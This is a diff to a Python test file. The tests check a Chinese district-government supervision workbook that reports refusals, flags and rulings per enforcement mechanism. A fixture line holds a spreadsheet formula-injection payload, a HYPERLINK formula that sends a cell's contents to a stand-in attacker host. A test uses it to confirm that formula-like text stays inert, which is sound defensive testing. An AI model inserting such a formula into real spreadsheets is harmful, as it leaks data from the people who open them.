@@ -25,6 +25,7 @@ FIGURES = {
     "on_time_rate": 0.25,
     "breach_rate": 0.5,
 }
+ORG = ["单位代码", "单位名称", "单位类别"]
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
 
 
@@ -34,8 +35,20 @@ def table(name: str = "区生态环境局", code: str = "dept:ecology-environmen
         organisation_name=name,
         organisation_kind="dept",
         started=3,
-        refusals=1,
-        flags=2,
+        refusals=2,
+        refusals_owned_matter=1,
+        refusals_by_kind={"assistance.refused": 1, "inspection.support-refused": 1},
+        flags=3,
+        flags_by_kind={
+            "assistance.obstruction-flagged": 2,
+            "referral.onward-referral-suspected": 1,
+            "referral.escalated": 0,
+        },
+        records_by_kind={
+            "assistance.refusal-ruled:not-upheld": 1,
+            "referral.onward-referral-decided:barred": 1,
+            "secondment.guidance-recorded": 0,
+        },
         unread_overdue=0,
         breached_after_rulings=1,
         refusals_after_rulings=1,
@@ -93,8 +106,16 @@ def test_sup_02_the_workbook_has_a_summary_and_a_sheet_per_mechanism() -> None:
     assert summary.cell(row=11, column=12).value == 0.25
     assert summary.cell(row=12, column=1).value == "合计"
     # SUP-01: the figures after rulings beside those before.
-    assert header[17:19] == ["逾期（认定后）", "拒绝协助（认定后）"]
-    assert [c.value for c in summary[11]][17] == 1
+    assert header[13:18] == [
+        "期内启动期限",
+        "拒绝（协助、检查支持、移送配合）",
+        "其中：拒绝本部门职责事项协助",
+        "标记（推诿刁难、涉嫌再行移送、报请区政府）",
+        "逾期未读（INFO-03）",
+    ]
+    assert [c.value for c in summary[11]][14:17] == [2, 1, 3]
+    assert header[18:20] == ["逾期（认定后）", "拒绝（认定后）"]
+    assert [c.value for c in summary[11]][18] == 1
     referral = book["案件移送"]
     assert [c.value for c in referral[4]][:5] == [
         "dept:ecology-environment",
@@ -103,14 +124,24 @@ def test_sup_02_the_workbook_has_a_summary_and_a_sheet_per_mechanism() -> None:
         "REF-07",
         4,
     ]
-    assistance = [[c.value for c in r] for r in book["执法协助"].iter_rows()]
-    assert any(
-        r[:4] == ["单位代码", "单位名称", "单位类别", "拒绝协助（ASSIST-03）"] for r in assistance
-    )
-    assert ["dept:ecology-environment", "区生态环境局", "区级部门", 1, 2] in [
-        r[:5] for r in assistance
-    ]
+    # Each mechanism's refusals, flags and records by kind (those found), on its sheet.
+    org = ["dept:ecology-environment", "区生态环境局", "区级部门"]
+
+    def rows_of(sheet: str) -> list[list[object]]:
+        return [[c.value for c in r][:5] for r in book[sheet].iter_rows()]
+
+    assistance = rows_of("执法协助")
+    assert [*ORG, "事项", "件数"] in assistance
+    assert [*org, "拒绝协助（ASSIST-03）", 1] in assistance
+    assert [*org, "推诿刁难标记（ASSIST-02）", 2] in assistance
+    assert [*org, "拒绝协助经司法局认定不成立", 1] in assistance
+    assert [*ORG, "其中：拒绝本部门职责事项协助"] in [r[:4] for r in assistance]
+    referral = rows_of("案件移送")
+    assert [*org, "涉嫌再行移送、报区政府决定（REF-08）", 1] in referral
+    assert [*org, "区政府决定：属再行移送，不予放行", 1] in referral
+    assert not any(r[3] == "管辖异议报请区政府（REF-08）" for r in referral)  # none: not shown
     assert book["联合检查"]["A4"].value == "本期无该机制的期限"
+    assert [*org, "拒绝配合检查（INSP-03）", 1] in rows_of("联合检查")
 
 
 def test_sup_02_text_that_looks_like_a_formula_stays_text() -> None:
